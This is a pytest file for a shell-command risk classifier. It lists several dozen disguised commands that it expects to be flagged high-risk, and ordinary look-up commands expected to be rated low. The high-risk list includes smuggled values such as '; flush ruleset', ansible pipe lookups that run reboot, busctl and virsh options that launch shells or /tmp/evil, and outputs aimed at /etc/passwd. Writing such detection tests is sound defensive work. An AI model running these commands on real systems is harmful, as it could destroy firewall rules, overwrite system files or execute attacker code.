"""Looks that write, run, load or connect by an option, an operand or a word that few people know."""

import pytest

from schemas.words import RiskLevel
from tests.unit.risk.verdicts import judged

CHANGES = r"""
sadf -l
sadf -d -- -o /etc/x
systemd-analyze verify --generators=yes x.service
busctl list --address=unixexec:path=/bin/sh,argv1=-c,argv2=reboot
busctl tree --address unixexec:path=/bin/sh
omreport system summary -outc /etc/passwd
aide --check -c /tmp/evil
osqueryi "select * from carves where carve=1"
testssl.sh --csv x.example.com
testssl.sh --outprefix=/etc/x --json x.example.com
sslscan --xml=/etc/passwd x.example.com
certbot plugins --prepare
vault status -address=http://evil
ifconfig -a up
ifdown list eth0
dhclient get eth0
ifup status
pfctl -s info -F all
iptables-restore list /tmp/rules
nft list ruleset '; flush ruleset'
nft list "ruleset; flush ruleset"
nft describe 'x; flush ruleset'
nft monitor '; flush ruleset'
conntrack -L -z -p tcp
nmcli general hostname newname
nmcli g h x
ovs-vsctl show --bootstrap-ca-cert=/etc/x
ovs-ofctl show br --unixctl=/x
pidstat -e reboot
pidstat 1 1 -e reboot
su root -c 'ls' -s /tmp/evil
runuser -s /tmp/x -c ls root
parallel --dryrun ls '{= system("reboot") =}' ::: a
flock /etc/nologin true
ssh -o UserKnownHostsFile=/root/.ssh/authorized_keys no-pty ls
bash -n +n x
git log --outp=/etc/x
git grep --ope x
git fsck --los
git help -w x
git cat-file --filters HEAD:x
git cat-file --filter HEAD:x
git cat-file --textco HEAD:x
ansible all -m debug -a 'msg={{ lookup("pipe","reboot") }}'
ansible all -m ping -e "x={{lookup('pipe','reboot')}}"
ansible all -m ping -i /tmp/evil.sh
ansible all -m command -a "mount /dev/sda /mnt"
ansible all -m shell -a "ip addr add x"
ansible all -m shell -a "ss -K"
ansible all -m shell -a "hostnamectl set-hostname x"
ansible all -m command -a "dpkg -l x -r y"
ansible-playbook --list-hosts x.yml -i /tmp/evil.sh
ansible-playbook -C http://x/y.yml
systemctl status -Hx y
virsh -c 'qemu+ssh://x/system?command=/tmp/evil' list
borg list --remote-path=/tmp/evil x
borg check --rep x
borg list --debug-profile=/etc/x y
duplicity collection-status --use-scp --scp-comm=x y
rclone lsd ':sftp,ssh="reboot":/'
rclone ls remote: --cpuprofile=/etc/x
rclone check a: b: --combined=/etc/x
rclone copy --dry-run a b --metadata-mapper=x
rclone ls 'remote,ssh=reboot:x'
dnf list --repofrompath=x,http://evil/
dnf repoquery --debugsolver x
zypper lr --exp=/etc/x
""".strip().splitlines()


@pytest.mark.parametrize("command", CHANGES)
def test_what_looks_like_a_look_and_does_more_is_asked_about(command: str) -> None:
    found = judged(command)
    assert not found.effect.harmless
    assert found.risk in {RiskLevel.HIGH, RiskLevel.CRITICAL}


LOOKS = r"""
sadf -d /var/log/sa/sa01 -- -r
sadf -j -s 10:00:00 -- -n DEV
omreport chassis temps
omreport storage vdisk controller=0
ovs-vsctl --timeout=5 list-br
ovs-ofctl -O OpenFlow13 dump-flows br0
ovs-vsctl --columns=name,ofport list Interface
testssl.sh --quiet --fast web01.example.com
sslscan --no-failed web01:443
rclone ls remote:backups --max-depth 2
rclone size remote:x --json
rclone check /srv remote:x --one-way
rclone sync -n /srv remote:x
flock -n /var/lock/x.lock df
flock 9 df
ansible all -m ping -i hosts.ini
ansible web -m setup -a filter=ansible_distribution*
ansible web -m debug -a "var=x"
ansible web -m shell -a "df -h"
ansible web -m command -a "ip -br addr show"
virsh -c qemu:///system list --all
virsh -c qemu+ssh://root@kvm1/system list
git help log
git log --stat --oneline
nft list table inet filter
nmcli general hostname
nmcli general status
pidstat -u 1 3
sar -s 10:00:00 -e 11:00:00
su - app -s /bin/bash -c 'df -h'
parallel --dry-run gzip ::: a b
pfctl -s rules
pfctl -si
iptables-restore --test /etc/iptables/rules.v4
systemctl status nginx --lines=5
journalctl --namespace=x -n 5
borg list --remote-path=borg1 repo
""".strip().splitlines()


@pytest.mark.parametrize("command", LOOKS)
def test_a_look_by_the_same_command_is_asked_about_nobody(command: str) -> None:
    found = judged(command)
    assert found.effect.harmless
    assert found.risk is RiskLevel.LOW
